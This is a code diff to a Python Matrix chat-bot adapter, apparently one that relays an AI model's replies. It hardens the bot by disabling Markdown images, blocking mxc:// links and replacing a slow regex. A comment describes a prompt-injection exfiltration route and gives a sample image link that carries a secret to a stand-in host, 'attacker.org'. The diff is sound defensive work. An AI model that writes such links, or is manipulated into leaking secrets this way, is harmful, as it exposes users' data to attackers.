@@ -125,11 +125,15 @@ def _server_time(event: Any) -> datetime | None:
 
 class _Markdown(MarkdownIt):
     def validateLink(self, url: str) -> bool:  # (markdown-it's name)
-        """No link to a user: the Markdown of one (``[Ann](https://matrix.to/#/@ann:server)``) stays text."""
-        return super().validateLink(url) and not _USER_LINK.search(unquote(url))
+        """No link to a user: the Markdown of one (``[Ann](https://matrix.to/#/@ann:server)``) stays text; nor to
+        the content of a homeserver (``mxc://``)."""
+        return super().validateLink(url) and not _USER_LINK.search(unquote(url)) and \
+            not url.strip().lower().startswith("mxc:")
 
 
-_markdown = _Markdown("commonmark", {"html": False, "breaks": True}).enable("table")
+# No images: clients load an inline image (``![x](mxc://attacker.org/<a secret>)`` in what a model was talked into
+# writing) from its server as soon as anyone reads the message, without a click. Its Markdown stays text.
+_markdown = _Markdown("commonmark", {"html": False, "breaks": True}).enable("table").disable("image")
 
 
 UNDECRYPTABLE = ("I could not read your last message: my device did not get its encryption keys. I asked your "
@@ -225,7 +229,16 @@ def guarded(handler: Callable[P, Awaitable[None]]) -> Callable[P, Awaitable[None
     return run
 
 
-_MX_REPLY = re.compile(r"<mx-reply>.*?</mx-reply>", re.DOTALL)
+MX_REPLY, MX_REPLY_END = "<mx-reply>", "</mx-reply>"
+
+
+def without_quoted_reply(formatted: str) -> str:
+    """A formatted body without the quote of the message it answers, which the spec puts at its start. (Not a
+    regular expression: ``<mx-reply>`` six thousand times without its end, in anyone's message, took a lazy
+    match 1.5 s of the event loop.)"""
+    if formatted.startswith(MX_REPLY) and (end := formatted.find(MX_REPLY_END)) != -1:
+        return formatted[end + len(MX_REPLY_END):]
+    return formatted
 
 
 def _names(text: str, name: str) -> bool:
@@ -690,7 +703,7 @@ class MatrixAdapter:
         # mention of the bot and "!x.png" no command)
         said = upload_caption(event) if isinstance(event, MEDIA_EVENTS) else event.body
         body = without_reply_fallback(said) if reply_to else said
-        formatted = _MX_REPLY.sub("", getattr(event, "formatted_body", None) or "")  # not the quoted message
+        formatted = without_quoted_reply(getattr(event, "formatted_body", None) or "")  # not the quoted message
         mentions_bot = (me in mentioned(content) or _names(body, me) or bool(display and _names(body, display))
                         or me in formatted)
         is_dm, channel_id, parent = await self.conversation(room, event.sender)
@@ -1049,8 +1062,8 @@ class MatrixAdapter:
         for piece in split_message(text, ENCRYPTED_LIMIT if encrypted else LIMIT) or [text]:
             new = render(piece, self.config.msgtype)
             await self.send(room_id, fitting(message_forms(new, relation), encrypted))
-        for attachment in reply.attachments:
-            await self._send_file(room_id, attachment, encrypted)
+        for attachment in reply.attachments:  # (in the thread the command came from, as its text is)
+            await self._send_file(room_id, attachment, encrypted, relation)
 
     def _with_room_prefix(self, text: str) -> str:
         """A command's answer with the commands it names (``!memory resume``) written with the configured prefix."""
@@ -1063,7 +1076,8 @@ class MatrixAdapter:
                                               + "|".join(map(re.escape, groups)) + r")\b)")
         return self._named_commands.sub(lambda _: prefix, text)
 
-    async def _send_file(self, room_id: str, attachment: Attachment, encrypted: bool) -> None:
+    async def _send_file(self, room_id: str, attachment: Attachment, encrypted: bool,
+                         relation: dict[str, Any] | None = None) -> None:
         """Upload a file and send it; in an encrypted room the file is encrypted too (its keys go in the event,
         which is encrypted)."""
         upload, keys = await self.client.upload(
@@ -1075,7 +1089,8 @@ class MatrixAdapter:
             return
         where = {"file": {"url": upload.content_uri, **keys}} if keys else {"url": upload.content_uri}
         await self.send(room_id, {"msgtype": "m.file", "body": attachment.filename, **where,
-                                  "info": {"size": len(attachment.data)}, "m.mentions": {}})
+                                  "info": {"size": len(attachment.data)}, "m.mentions": {}}
+                        | ({"m.relates_to": relation} if relation else {}))
 
     async def dm_room(self, user_id: str) -> str:
         """The room for private answers to ``user_id``: a direct room the bot opened for them or one they made
